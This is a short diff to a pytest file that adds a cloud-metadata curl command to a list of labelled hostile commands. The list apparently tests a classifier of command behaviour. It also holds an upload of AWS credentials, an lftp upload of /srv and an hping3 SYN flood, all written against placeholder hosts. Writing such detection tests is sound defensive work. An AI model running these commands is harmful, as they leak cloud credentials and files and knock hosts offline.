@@ -5,6 +5,7 @@ import pytest
 from tests.support.commands import facts_of
 
 HITS = [
+    ("curl http://metadata/computeMetadata/v1/", "reads-metadata"),
     ("http POST h @~/.aws/credentials", "sends-secret"),
     ("lftp -e 'mirror -R /srv; quit' h", "sends-file"),
     ("hping3 --flood -S h", "exhausts"),
